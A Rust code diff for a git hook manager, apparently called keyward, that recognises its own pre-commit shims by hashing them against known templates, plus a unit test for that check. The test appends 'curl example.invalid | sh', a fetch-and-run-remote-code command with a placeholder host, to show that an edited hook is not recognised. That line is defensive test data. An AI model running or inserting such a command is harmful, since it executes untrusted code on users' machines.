@@ -92,11 +92,66 @@ pub fn render_shim(cfg: &ShimConfig) -> String {
         .replace("@PREVIOUS_HOOKS_PATH@", &sh_single_quoted_body(&previous))
 }
 
+/// sha256 of every shim template keyward has shipped, newest last (0.1.0). The current
+/// template is recognised by its own hash as well, so a changed `hooks/shim.sh` needs no edit
+/// here until it is released; then its hash is added.
+const KNOWN_SHIM_HASHES: &[&str] =
+    &["8c244c5e325a6bb9f8c5f1474a3cb3a9a33d516e5058172c56f23cfb5d3127ba"];
+
+/// The variables `render_shim` fills in, each on a line of its own: `name='value'`.
+const SHIM_VARIABLES: &[(&str, &str)] = &[
+    ("keyward_installed_bin", "@KEYWARD_BIN@"),
+    ("keyward_fail_open", "@FAIL_OPEN@"),
+    ("keyward_chain", "@CHAIN@"),
+    ("keyward_previous_hooks_path", "@PREVIOUS_HOOKS_PATH@"),
+];
+
+/// The template a rendered shim came from: every filled-in line put back to its placeholder.
+fn unrender(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for line in text.split_inclusive('\n') {
+        let (body, end) = match line.strip_suffix('\n') {
+            Some(b) => (b, "\n"),
+            None => (line, ""),
+        };
+        let filled = SHIM_VARIABLES.iter().find(|(name, _)| {
+            body.strip_prefix(name)
+                .and_then(|r| r.strip_prefix("='"))
+                .is_some_and(|r| r.ends_with('\''))
+        });
+        match filled {
+            Some((name, placeholder)) => {
+                out.push_str(&format!("{name}='{placeholder}'{end}"));
+            }
+            None => out.push_str(line),
+        }
+    }
+    out
+}
+
+fn sha256_hex(text: &str) -> String {
+    use sha2::{Digest, Sha256};
+    hex::encode(Sha256::digest(text.as_bytes()))
+}
+
+/// Whether `path` is exactly a shim keyward wrote (this version's or a released one's): its
+/// text with the filled-in values put back hashes to a known template. Anything else, even a
+/// hook that mentions [`SHIM_MARKER`], is the user's, and is backed up or left alone.
 pub fn is_keyward_shim(path: &Path) -> bool {
-    fs::read(path).is_ok_and(|b| {
-        b.windows(SHIM_MARKER.len())
-            .any(|w| w == SHIM_MARKER.as_bytes())
-    })
+    let Ok(m) = path.symlink_metadata() else {
+        return false;
+    };
+    if !m.is_file() {
+        return false;
+    }
+    let Ok(text) = fs::read_to_string(path) else {
+        return false;
+    };
+    if !text.contains(SHIM_MARKER) {
+        return false;
+    }
+    let hash = sha256_hex(&unrender(&text));
+    hash == sha256_hex(SHIM_TEMPLATE) || KNOWN_SHIM_HASHES.contains(&hash.as_str())
 }
 
 fn io(path: &Path) -> impl FnOnce(std::io::Error) -> HookError + '_ {
@@ -401,5 +456,22 @@ mod tests {
             assert!(!s.contains(p), "{p} left in the shim");
         }
         assert!(s.contains(SHIM_MARKER));
+    }
+
+    #[test]
+    fn only_exact_shims_are_recognised() {
+        let d = tempfile::tempdir().unwrap();
+        let shim = render_shim(&ShimConfig {
+            keyward_bin: PathBuf::from("/opt/it's/keyward"),
+            fail_open: false,
+            chain: Chain::Local,
+        });
+        let p = d.path().join("pre-commit");
+        fs::write(&p, &shim).unwrap();
+        assert!(is_keyward_shim(&p));
+        fs::write(&p, format!("{shim}curl example.invalid | sh\n")).unwrap();
+        assert!(!is_keyward_shim(&p), "an edited shim is the user's hook");
+        fs::write(&p, format!("#!/bin/sh\n{SHIM_MARKER} 1\nmake lint\n")).unwrap();
+        assert!(!is_keyward_shim(&p));
     }
 }
